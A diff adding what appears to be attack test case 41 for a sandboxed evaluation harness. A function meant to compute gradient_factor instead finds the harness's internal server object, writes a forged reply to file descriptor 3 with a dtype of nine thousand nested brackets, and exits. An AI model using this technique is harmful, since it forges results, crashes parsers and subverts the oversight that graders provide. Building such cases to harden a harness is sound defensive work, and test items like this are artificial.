@@ -1,0 +1,17 @@
+# /// attack
+# group = "C"
+# number = 41
+# outcome = "Z"
+# tries = "sends an array header of nine thousand brackets"
+# reasons = { gradient_factor = "protocol" }
+# ///
+# %% first
+def forge(value, raw=b""):
+    import gc, json, os, struct
+    (server,) = [x for x in gc.get_objects() if type(x).__name__ == "_Server"]
+    text = json.dumps({"id": server._request, "value": value}).encode()
+    os.write(3, struct.pack("!II", len(text), len(raw)) + text + raw)
+    os._exit(0)
+# %% gradient_factor
+def gradient_factor(loss, n):
+    forge({"t": "array", "dtype": "[" * 9000 + "]" * 9000, "shape": [1]}, b"12345678")
